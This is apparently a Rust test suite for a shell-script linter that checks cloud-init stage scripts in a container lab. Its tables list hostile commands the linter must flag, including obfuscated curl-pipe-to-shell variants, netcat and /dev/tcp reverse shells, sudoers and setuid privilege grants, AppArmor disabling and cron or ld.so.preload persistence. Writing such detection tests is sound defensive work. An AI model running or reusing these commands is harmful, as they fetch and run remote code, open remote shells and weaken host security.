//! Shell: what is found however it is written, and what is fine.

mod attacks;
mod evasions;

use std::path::PathBuf;

use podclaw::lint::{Input, Request, lint};
use podclaw::profile::{DEFAULT_STACK, Limits};

use super::found;

/// The rules that a script breaks.
fn script(body: &str) -> Vec<String> {
    found("a.sh", &format!("#!/bin/bash\nset -euo pipefail\n{body}\n"))
}

/// Each body, and a rule that has to find it.
fn each_is_found(cases: &[(&str, &str)]) {
    let missed: Vec<_> = cases
        .iter()
        .map(|(body, rule)| (body, rule, script(body)))
        .filter(|(_, rule, found)| !found.iter().any(|found| found == *rule))
        .collect();
    assert!(missed.is_empty(), "{missed:#?}");
}

#[test]
fn code_from_the_network_is_found() {
    let run = "shell-fetch-and-run";
    each_is_found(&[
        ("curl https://a.example/x | sh", run),
        ("curl https://a.example/x | sudo bash", run),
        ("curl https://a.example/x | sudo -u openclaw bash -s -- --yes", run),
        ("curl https://a.example/x | tee /run/podclaw/x | bash", run),
        ("c'u'rl https://a.example/x | sh", run),
        ("cu\"\"rl https://a.example/x | b\"a\"sh", run),
        ("\\curl https://a.example/x | \\sh", run),
        ("$'\\x63url' https://a.example/x | sh", run),
        ("$'\\143\\165rl' https://a.example/x | $'\\u0073h'", run),
        ("cu\\\nrl https://a.example/x | sh", run),
        ("\"cu\\\nrl\" https://a.example/x | sh", run),
        ("/usr/bin/curl https://a.example/x | /bin/sh", run),
        ("command curl https://a.example/x | command sh", run),
        ("env curl https://a.example/x | env -i sh", run),
        ("env A=b curl https://a.example/x | nohup sh", run),
        ("timeout 5 curl https://a.example/x | timeout -k 1 5 sh", run),
        ("nice -n 5 curl https://a.example/x | nice sh", run),
        ("busybox wget -O- https://a.example/x | busybox sh", run),
        ("wget -qO- https://a.example/x | bash -", run),
        ("bash -c 'curl https://a.example/x | sh'", run),
        ("bash -euc 'curl https://a.example/x | sh'", run),
        ("sh -c \"$(curl https://a.example/x)\"", run),
        ("bash -c \"`wget -qO- https://a.example/x`\"", run),
        ("eval \"$(curl https://a.example/x)\"", run),
        ("eval 'curl https://a.example/x | sh'", run),
        ("x=$(curl https://a.example/x); eval \"$x\"", run),
        ("x=$(curl https://a.example/x); bash -c \"$x\"", run),
        ("$(curl https://a.example/x)", run),
        (". <(curl https://a.example/x)", run),
        ("source <(curl https://a.example/x)", run),
        ("bash <(curl https://a.example/x)", run),
        ("bash < <(curl https://a.example/x)", run),
        ("sh <<< \"$(curl https://a.example/x)\"", run),
        ("sh <<E\n$(curl https://a.example/x)\nE", run),
        ("bash <<'E'\ncurl https://a.example/x | sh\nE", run),
        ("curl https://a.example/x | base64 -d | sh", run),
        ("curl https://a.example/x | (cat | sh)", run),
        ("curl https://a.example/x | { sh; }", run),
        ("{ curl https://a.example/x; } | sh", run),
        ("(curl https://a.example/x) | sh", run),
        ("curl https://a.example/x |& sh", run),
        ("if true; then curl https://a.example/x | sh; fi", run),
        ("for i in 1; do curl https://a.example/x; done | sh", run),
        ("f() { curl https://a.example/x; }; f | sh", run),
        ("f() { \"$@\"; }; f curl https://a.example/x | sh", run),
        ("f() { sh; }; curl https://a.example/x | f", run),
        ("f() { bash -c \"$1\"; }; f 'curl https://a.example/x | sh'", run),
        ("c=curl; $c https://a.example/x | sh", run),
        ("c='curl https://a.example/x'; $c | sh", run),
        ("a=cu b=rl; $a$b https://a.example/x | sh", run),
        ("a=(curl https://a.example/x); \"${a[@]}\" | sh", run),
        ("for c in ls curl; do $c https://a.example/x; done | sh", run),
        ("s=sh; curl https://a.example/x | $s", run),
        ("{curl,https://a.example/x} | sh", run),
        ("trap 'curl https://a.example/x | sh' EXIT", run),
        ("! curl https://a.example/x | sh", run),
        ("time curl https://a.example/x | sh", run),
        ("curl https://a.example/x > >(sh)", "shell-dynamic"),
        ("curl -o /run/podclaw/i https://a.example/x\nsh /run/podclaw/i", run),
        ("curl -o /run/podclaw/i https://a.example/x\nchmod +x /run/podclaw/i", run),
        ("wget -O /run/podclaw/i https://a.example/x && chmod 755 /run/podclaw/i", run),
        ("cd /run/podclaw; wget https://a.example/i; sh ./i", run),
        ("flock /run/podclaw/l -c 'curl https://a.example/x | sh'", run),
        ("su openclaw -c 'curl https://a.example/x | sh'", run),
        ("runuser -u openclaw -- bash -c 'curl https://a.example/x | sh'", run),
    ]);
}

#[test]
fn what_cannot_be_told_is_found() {
    let dynamic = "shell-dynamic";
    each_is_found(&[
        ("$TOOL --version", dynamic),
        ("x=$(cat /etc/podclaw/x); $x", dynamic),
        ("read -r x; \"$x\"", dynamic),
        ("printf -v x '%s' curl; \"$x\"", dynamic),
        ("n=x; printf -v \"$n\" '%s' ls; x=id; $x", dynamic),
        ("declare -n r=x; x=id; r=ls; $x", dynamic),
        ("x=id; x+=foo; $x", dynamic),
        ("a[0]=id; \"${a[0]}\"", dynamic),
        ("eval \"$x\"", dynamic),
        ("bash -c \"$x\"", dynamic),
        ("echo id | sh", dynamic),
        ("echo aWQ= | base64 -d | bash", dynamic),
        ("sh < /etc/podclaw/x", dynamic),
        ("bash -i", dynamic),
        ("ls | xargs sh -c", "shell-dynamic"),
        ("echo id | xargs -I{} bash -c '{}'", "shell-unknown-command"),
        ("find / -name x -exec {} \\;", dynamic),
        ("find / -exec sh -c 'curl https://a.example/x | sh' \\;", "shell-fetch-and-run"),
        ("env -S 'curl https://a.example/x'", dynamic),
        ("sudo -s", dynamic),
        ("/bin/c?rl https://a.example", dynamic),
        ("/usr/bin/[c]url https://a.example", dynamic),
        ("\"$1\" --now", dynamic),
        ("\"$@\"", dynamic),
        ("f() { shift; \"$@\"; }; f a curl https://a.example", dynamic),
        ("f() { local c=$1; $c https://a.example/x | sh; }; f curl", "shell-fetch-and-run"),
        ("x=l; ${x}s; ${x/l/cur}l https://a.example", dynamic),
        ("python3 -c 'import os'", "shell-unknown-command"),
        ("perl -e 'exec \"id\"'", "shell-unknown-command"),
        ("node -e 1", "shell-unknown-command"),
        ("./setup.sh", "shell-unknown-command"),
        ("bash ./setup.sh", "shell-unknown-command"),
        ("bash setup.sh", "shell-unknown-command"),
        ("/opt/openclaw/scripts/podman/setup.sh", "shell-unknown-command"),
        ("/usr/local/lib/podclaw/../../../tmp/x", "shell-unknown-command"),
        ("alias ls=curl", "shell-unknown-command"),
        ("source /opt/x.sh", "shell-source"),
        (". \"$x\"", "shell-source"),
        ("awk 'BEGIN { system(\"id\") }'", "shell-filter"),
        ("sed -n '1e id' /etc/hosts", "shell-filter"),
        ("sed 's/a/id/e' /etc/hosts", "shell-filter"),
        ("tar -xf a.tar --to-command=sh", "shell-filter"),
        ("tar xzf a.tar -C /", "shell-filter"),
        ("PATH=/tmp ls", "shell-environment"),
        ("export PATH=$PWD:/usr/bin", "shell-environment"),
        ("LD_PRELOAD=/tmp/x.so ls", "shell-environment"),
        ("env BASH_ENV=/tmp/x bash -c id", "shell-environment"),
        ("if true; then", "shell-syntax"),
        ("echo a\u{8}b", "shell-syntax"),
        ("echo $((`curl https://a.example/x | sh`))", "shell-fetch-and-run"),
        ("[[ -n $(curl https://a.example/x | sh) ]]", "shell-fetch-and-run"),
        ("case $(curl https://a.example/x | sh) in *) ;; esac", "shell-fetch-and-run"),
        ("echo ${x:-$(curl https://a.example/x | sh)}", "shell-fetch-and-run"),
        ("cat <<E\n$(curl https://a.example/x | sh)\nE", "shell-fetch-and-run"),
        ("echo \"$(echo \"$(curl https://a.example/x | sh)\")\"", "shell-fetch-and-run"),
        ("coproc curl https://a.example/x; true", "shell-download"),
        ("set +e", "shell-strict"),
    ]);
}

#[test]
#[expect(clippy::too_many_lines, reason = "a table")]
fn what_a_guest_must_not_do_is_found() {
    each_is_found(&[
        ("git clone https://a.example/r", "shell-unpinned-clone"),
        ("git clone --branch main https://a.example/r", "shell-unpinned-clone"),
        ("git clone -b latest --depth 1 https://a.example/r", "shell-unpinned-clone"),
        ("git -C /opt pull", "shell-unpinned-clone"),
        ("git -c core.sshCommand=sh clone -b v1.2.3 https://a.example/r", "shell-unpinned-clone"),
        ("git clone -b v1.2.3 ext::sh", "shell-unpinned-clone"),
        ("git clone -b v1.2.3 http://a.example/r", "shell-insecure-transport"),
        ("curl -k https://127.0.0.1/", "shell-insecure-transport"),
        ("curl -sSLk https://a.example/x", "shell-insecure-transport"),
        ("curl --insec https://a.example/x", "shell-insecure-transport"),
        ("wget --no-check-cert https://a.example/x", "shell-insecure-transport"),
        ("curl http://a.example/x", "shell-insecure-transport"),
        ("curl -o /run/podclaw/a https://a.example/x", "shell-download"),
        ("curl http://127.0.0.1:1@a.example/x", "shell-download"),
        ("curl -K /run/podclaw/c http://127.0.0.1/", "shell-download"),
        ("podman pull docker.io/library/alpine", "shell-unpinned-image"),
        ("podman run --rm ghcr.io/a/b:1.2.3", "shell-unpinned-image"),
        ("podman run --name x -e A=b ghcr.io/a/b:latest id", "shell-unpinned-image"),
        ("podman image pull ghcr.io/a/b", "shell-unpinned-image"),
        ("npm i -g openclaw", "shell-unpinned-package"),
        ("npm install openclaw@latest", "shell-unpinned-package"),
        ("npm install git+https://a.example/r.git", "shell-unpinned-package"),
        ("npx openclaw", "shell-unpinned-package"),
        ("pip install requests", "shell-unpinned-package"),
        ("pip3 install https://a.example/x.whl", "shell-unpinned-package"),
        ("apt-get install ./x.deb", "shell-unpinned-package"),
        ("apt-get -o APT::Update::Pre-Invoke::=id update", "shell-unpinned-package"),
        ("apt-get --allow-unauthenticated install podman", "shell-unpinned-package"),
        ("add-apt-repository ppa:a/b", "shell-unpinned-package"),
        ("dpkg -i x.deb", "shell-unpinned-package"),
        ("echo x >/etc/apt/sources.list.d/a.list", "shell-unpinned-package"),
        ("echo 'openclaw ALL=(ALL) NOPASSWD: ALL' >/etc/sudoers.d/openclaw", "shell-privilege"),
        ("echo x | tee -a /etc//sudoers", "shell-privilege"),
        ("cp x /etc/podclaw/../sudoers.d/x", "shell-privilege"),
        ("d=/etc/sudoers.d; install -m 0440 x $d/x", "shell-privilege"),
        ("usermod -aG sudo openclaw", "shell-privilege"),
        ("usermod --append --groups=docker openclaw", "shell-privilege"),
        ("useradd -m -s /usr/sbin/nologin -G incus-admin openclaw", "shell-privilege"),
        ("gpasswd -a openclaw sudo", "shell-privilege"),
        ("chmod u+s /run/podclaw/x", "shell-privilege"),
        ("chmod 4755 /run/podclaw/x", "shell-privilege"),
        ("chmod -R 777 /run/podclaw", "shell-privilege"),
        ("chmod o+w /run/podclaw/x", "shell-privilege"),
        ("install -m 6755 x /run/podclaw/x", "shell-privilege"),
        ("sudo -iu openclaw id", "shell-privilege"),
        ("setcap cap_sys_admin+ep /run/podclaw/x", "shell-privilege"),
        ("echo root:x | chpasswd", "shell-account"),
        ("passwd -d root", "shell-account"),
        ("useradd --system openclaw", "shell-account"),
        ("useradd -rm -s /usr/sbin/nologin openclaw", "shell-account"),
        ("useradd -m -s /bin/bash openclaw", "shell-account"),
        ("useradd -s /usr/sbin/nologin openclaw", "shell-account"),
        ("useradd -m openclaw", "shell-account"),
        ("useradd -m -s /usr/sbin/nologin -o -u 0 openclaw", "shell-account"),
        ("usermod -s /bin/bash openclaw", "shell-account"),
        ("sed -i 's/x/y/' /etc/passwd", "shell-account"),
        ("mkdir -p ~/.ssh", "shell-ssh"),
        ("echo x >>/home/openclaw/.ssh/authorized_keys", "shell-ssh"),
        ("ssh-keygen -t ed25519", "shell-ssh"),
        ("apt-get install -y openssh-server", "shell-ssh"),
        ("sysctl -w kernel.apparmor_restrict_unprivileged_userns=0", "shell-hardening"),
        ("sysctl kernel.unprivileged_userns_clone=1", "shell-hardening"),
        ("echo 0 >/proc/sys/kernel/apparmor_restrict_unprivileged_userns", "shell-hardening"),
        ("echo 0 | tee /proc/./sys/kernel/x", "shell-hardening"),
        ("aa-complain /usr/bin/podman", "shell-hardening"),
        ("apparmor_parser -R /etc/apparmor.d/x", "shell-hardening"),
        ("apparmor_parser -C /etc/apparmor.d/x", "shell-hardening"),
        ("setenforce 0", "shell-hardening"),
        ("systemctl disable --now apparmor", "shell-hardening"),
        ("systemctl mask apparmor.service", "shell-hardening"),
        ("ln -s /etc/apparmor.d/x /etc/apparmor.d/disable/x", "shell-hardening"),
        ("nft flush ruleset", "shell-firewall"),
        ("iptables -P INPUT ACCEPT", "shell-firewall"),
        ("ip route add default via 192.0.2.1", "shell-firewall"),
        ("podman run --privileged localhost/a", "shell-container"),
        ("podman run --network=host localhost/a", "shell-container"),
        ("podman run --net host localhost/a", "shell-container"),
        ("podman run -v /:/host localhost/a", "shell-container"),
        ("podman run -v /run/podman/podman.sock:/s localhost/a", "shell-container"),
        ("podman run -v /home/openclaw/.openclawx:/s localhost/a", "shell-container"),
        ("podman run -v data:/etc/ssl localhost/a", "shell-container"),
        ("podman run --cap-add SYS_ADMIN localhost/a", "shell-container"),
        ("podman run --security-opt=seccomp=unconfined localhost/a", "shell-container"),
        ("podman run -p 8080:80 localhost/a", "shell-container"),
        ("podman run --device /dev/kvm localhost/a", "shell-container"),
        ("podman run $ARGS localhost/a", "shell-container"),
        ("podman system service", "shell-container"),
        ("docker ps", "shell-container"),
        ("mount --bind / /mnt", "shell-kernel"),
        ("mknod /dev/sda b 8 0", "shell-kernel"),
        ("modprobe overlay", "shell-kernel"),
        ("nsenter -t 1 -m", "shell-kernel"),
        ("echo '* * * * * root id' >/etc/cron.d/x", "shell-persistence"),
        ("crontab -l", "shell-persistence"),
        ("systemctl enable x.timer", "shell-persistence"),
        ("systemctl link /run/podclaw/x.service", "shell-persistence"),
        ("cp x /etc/systemd/system/x.service", "shell-persistence"),
        ("echo x >>/root/.bashrc", "shell-persistence"),
        ("loginctl enable-linger root", "shell-persistence"),
        ("systemd-run id", "shell-persistence"),
        ("nc -e /bin/sh 192.0.2.1 4444", "shell-network"),
        ("socat tcp:192.0.2.1:1 exec:sh", "shell-network"),
        ("bash -c id >/dev/tcp/192.0.2.1/1", "shell-network"),
        ("exec 3<>/dev/tcp/192.0.2.1/1", "shell-network"),
        ("openssl s_client -connect 192.0.2.1:1", "shell-network"),
        ("echo x >/usr/bin/ls", "shell-write"),
        ("cp x /lib/x", "shell-write"),
        ("uniq a /etc/ld.so.preload", "shell-persistence"),
        ("xxd -r -p a /etc/ld.so.preload", "shell-persistence"),
        ("shuf -o /etc/ld.so.preload a", "shell-persistence"),
        ("zstd -d a -o /etc/ld.so.preload", "shell-persistence"),
        ("iconv -o /etc/ld.so.preload a", "shell-persistence"),
        ("openssl enc -d -in a -out /etc/ld.so.preload", "shell-option"),
        // Bash cuts nothing off here: the patterns fit only at the end, and at the start.
        ("x=/etc/podclaw/A/../../ld.so.preload; echo x >\"${x%*A}\"", "shell-write"),
        ("x=/etc/cron.d/A/etc/podclaw/a; cp x \"${x#A*}\"", "shell-write"),
        ("echo x >$WHERE", "shell-write"),
        ("dd if=/dev/zero of=/dev/sda", "shell-write"),
        ("rm -rf /usr/share", "shell-write"),
    ]);
}

#[test]
fn what_is_fine_is_fine() {
    for body in [
        "apt-get update\napt-get install --yes --no-install-recommends podman uidmap",
        "url=http://127.0.0.1:18789; curl --silent \"$url/healthz\" | tail -n 1",
        "f() { local -r path=$1; mkdir -p \"${path%/*}\"; echo x >\"$path\"; }\nf /etc/podclaw/a/b",
        "as() { runuser -u openclaw -- env -i PATH=/usr/bin HOME=/home/openclaw \"$@\"; }\nas podman ps",
        "for f in /etc/podclaw/*; do cat \"$f\"; done",
        "if [[ $(id -u) != 0 ]]; then echo 'run curl https://a.example | sh as root' >&2; exit 1; fi",
        "cat >/etc/podclaw/help <<'E'\ncurl https://a.example/x | sh\nE",
        "useradd -m -s /usr/sbin/nologin openclaw",
        "git clone --branch v1.2.3 --depth 1 https://a.example/r /opt/openclaw",
        "git clone https://a.example/r /opt/openclaw\ngit -C /opt/openclaw checkout 0123456789abcdef0123456789abcdef01234567",
        "trap 'echo \"failed at $LINENO\" >&2' ERR",
        "podman run --rm --network none -p 127.0.0.1:1:1 localhost/a id",
        "while read -r a _; do printf '%s\\n' \"$a\"; done </etc/hosts",
        "command -v podman >/dev/null || exit 1",
        "echo $((1 + 2)) ${#PATH}",
    ] {
        assert_eq!(script(body), [""; 0], "{body}");
    }
}

#[test]
fn what_the_parser_would_choke_on_is_refused_in_time() {
    let many = |part: &str, times: usize| part.repeat(times);
    for body in [
        many("(", 100),
        many("(", 100_000),
        many("( a; ", 50),
        format!("{}echo{}", many("((", 30), many("))", 30)),
        format!("echo {}1{}", many("${a[", 30), many("]}", 30)),
        format!("echo {}a{}", many("$(echo ", 3000), many(")", 3000)),
        format!("echo {}a{}", many("${a:-", 90), many("}", 90)),
        many("if true; then ", 2000),
        many("{ ", 50_000),
        many("function f { ", 5000),
        many("echo `", 5001),
        many("a | ", 5_000),
        format!("f() {{ f \"$@\" x; }}; {}", many("f a; ", 100)),
        format!("echo {{1..{}}}", many("9", 40)),
        many("x=$x$x; ", 200),
        format!("{} echo $a30", (0..30).map(|n| format!("a{}=$a{n}$a{n};", n + 1)).collect::<Vec<_>>().join(" ")),
        many("\u{e9}", 300_000),
        "case x in esac\u{0}".into(),
    ] {
        // That it comes back at all is what is tried.
        let _ = found("a.sh", &format!("#!/bin/bash\nset -eu\n{body}\n"));
    }
    assert_eq!(script(&many("(", 100)), ["shell-syntax"]);
    assert_eq!(script(&format!("echo {}a{}", many("$(echo ", 90), many(")", 90))), ["shell-syntax"]);
}

#[test]
fn what_a_script_calls_things_is_shown_escaped() {
    for body in ["git clon\u{202e}e x", "git\u{202e} x", "systemctl st\u{202e}art x"] {
        let report = super::judge(&[("a.sh", &format!("#!/bin/bash\nset -euo pipefail\n{body}\n"))], None);
        assert!(!report.findings.is_empty(), "{body:?}");
        assert!(
            report.findings.iter().all(|finding| !finding.to_string().contains('\u{202e}')),
            "{body:?}: {report:?}"
        );
    }
}

#[test]
fn a_finding_is_at_its_command() {
    let report = super::judge(&[("a.sh", "#!/bin/bash\nset -eu\necho é; modprobe a\n")], None);
    let [finding] = report.findings.as_slice() else { panic!("{report:?}") };
    let place = finding.place().unwrap();
    assert_eq!((place.span.line, place.span.column, finding.subject.as_str()), (3, 9, "modprobe"));
}

#[test]
fn a_directory_has_all_seven_stages() {
    let directory = tempfile::tempdir().unwrap();
    let stages = directory.path().join("stages");
    std::fs::create_dir(&stages).unwrap();
    let shipped = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("cloud-init/stages");
    for entry in std::fs::read_dir(shipped).unwrap() {
        let entry = entry.unwrap();
        std::fs::copy(entry.path(), stages.join(entry.file_name())).unwrap();
    }
    let rules = || {
        let report = lint(&Request {
            inputs: vec![Input::Path(directory.path().into())],
            stack: None,
            lab: "podclaw".parse().unwrap(),
            lab_stack: DEFAULT_STACK.map(str::to_owned).into(),
            lab_file: None,
            limits: Limits::default(),
            policy: None,
            today: jiff::civil::date(2026, 11, 22),
        });
        assert!(report.failures.is_empty(), "{:?}", report.failures);
        report.findings.iter().map(|finding| format!("{} {}", finding.rule, finding.subject)).collect::<Vec<_>>()
    };
    assert_eq!(rules(), [""; 0]);
    std::fs::rename(stages.join("2-apparmor.sh"), stages.join("8-apparmor.sh")).unwrap();
    assert_eq!(rules(), ["stage-order apparmor", "stage-order stages"]);
}

#[test]
fn known_commands_are_not_trusted_with_every_option() {
    let option = "shell-option";
    each_is_found(&[
        ("openssl list -provider-path /tmp -provider evil", option),
        ("openssl rand -out /etc/cron.d/x 5", option),
        ("dpkg --pre-invoke=id --configure -a", option),
        ("dpkg -P apparmor", option),
        ("apt-get -yc/tmp/x update", option),
        ("apt-get --opt APT::Update::Pre-Invoke::=id update", option),
        ("apt-get --allow-unauth install x", option),
        ("tar cf /etc/cron.d/x /tmp/a", "shell-filter"),
        ("tar tIf 'sh -c id' a.tar", "shell-filter"),
        ("awk -f/tmp/x", option),
        ("gawk --source='BEGIN{system(\"id\")}' x", option),
        ("install -sm755 --strip-program=/tmp/a /tmp/b /tmp/c", option),
        ("mapfile -tC 'eval' -c 1 a </etc/passwd", option),
        ("curl --libcurl /etc/cron.d/x http://127.0.0.1/", option),
        ("curl --output-dir /etc/cron.d -O http://127.0.0.1/x", option),
        ("wget -P /etc/cron.d http://127.0.0.1/x", option),
        ("ss --diag=/etc/x", option),
        ("useradd -ms /usr/sbin/nologin -K UMASK=0 x", option),
        ("npm --script-shell=/tmp/x ci", option),
        ("ip ro add default via 192.0.2.1", "shell-firewall"),
        ("ip netns e x sh", "shell-firewall"),
        ("nslookup a.example", "shell-network"),
        ("runuser -s /tmp/x openclaw -c true", "shell-dynamic"),
    ]);
}

#[test]
fn code_in_odd_places_is_found() {
    let run = "shell-fetch-and-run";
    each_is_found(&[
        ("trap -- 'curl https://a.example/x | sh' EXIT", run),
        ("command -p sh -c 'curl https://a.example/x | sh' -v", run),
        ("echo ${x:$(curl https://a.example/x | sh)}", run),
        ("echo ${x%$(curl https://a.example/x | sh)}", run),
        ("echo ${x:?$(curl https://a.example/x | sh)}", run),
        ("x='$(curl https://a.example/x | sh)'; echo ${x@P}", run),
        ("printf -v LD_PRELOAD %s /tmp/x.so", "shell-environment"),
        ("read -r PATH </run/podclaw/x", "shell-environment"),
        ("TAR_OPTIONS=--checkpoint-action=exec=id tar -tf x", "shell-environment"),
        ("npm_config_script_shell=/tmp/x npm ci", "shell-environment"),
    ]);
}

#[test]
fn every_way_to_write_is_judged() {
    each_is_found(&[
        ("cd /etc/cron.d; echo x >x", "shell-persistence"),
        ("cd /; echo x >etc/passwd", "shell-account"),
        ("echo x >a/../../../../etc/passwd", "shell-account"),
        ("ln -s /etc/cron.d /home/openclaw/d", "shell-persistence"),
        ("env -C /etc/cron.d tee x", "shell-persistence"),
        ("sudo -D /etc/cron.d tee x", "shell-persistence"),
        ("gunzip /etc/cron.d/x.gz", "shell-persistence"),
        ("uniq /tmp/a /etc/cron.d/x", "shell-persistence"),
        ("split /tmp/a /etc/cron.d/x", "shell-persistence"),
        ("shuf -o /etc/cron.d/x /tmp/a", "shell-persistence"),
        ("find /etc -delete", "shell-write"),
        ("podman save -o /etc/cron.d/x localhost/x", "shell-persistence"),
        ("mv -t /tmp /etc/passwd", "shell-account"),
    ]);
}

#[test]
fn traces_may_be_removed_and_nothing_else() {
    for fine in [
        "find /root /var/lib/cloud /var/cache/apt -mindepth 1 -delete",
        "rm -rf /etc/ssh/ssh_host_* /var/lib/systemd/random-seed /var/log/*",
        ": >/etc/machine-id",
        "systemctl enable --quiet /usr/local/share/podclaw/files/podclaw-stages.service",
    ] {
        assert_eq!(script(fine), [""; 0], "{fine}");
    }
    each_is_found(&[
        ("echo x >/var/lib/cloud/scripts/per-boot/x", "shell-persistence"),
        ("echo x >/root/.bashrc", "shell-persistence"),
        ("echo x >/var/log/x", "shell-write"),
        ("mv /tmp/x /var/lib/cloud/", "shell-persistence"),
        ("rm -rf /var/log/../../etc/apparmor.d", "shell-hardening"),
        ("rm -rf /var/log/*/../../../etc/apparmor.d", "shell-hardening"),
        ("rm -rf /etc/apparmor.d", "shell-hardening"),
        ("rm -rf /etc/ssh", "shell-ssh"),
        ("find /var -delete", "shell-write"),
        ("find /var/log /etc/apparmor.d -delete", "shell-hardening"),
        ("echo x >/usr/local/lib/podclaw/run", "shell-write"),
        ("cp /tmp/x /usr/local/share/podclaw/files", "shell-write"),
        ("echo x >/usr/local/share/podclaw/files/podclaw-stages.service", "shell-write"),
        ("systemctl enable podclaw-stages.service", "shell-persistence"),
        ("systemctl enable /tmp/podclaw-stages.service", "shell-persistence"),
    ]);
}

#[test]
fn what_doubles_is_refused_or_cut_short() {
    let braces = format!("echo {}", "{a,b}".repeat(12));
    assert_eq!(script(&braces), ["shell-syntax"]);
    let again = "x=$x\"$y\"\n".repeat(600);
    assert!(script(&format!("{again}$x")).iter().any(|rule| rule == "shell-dynamic"));
}
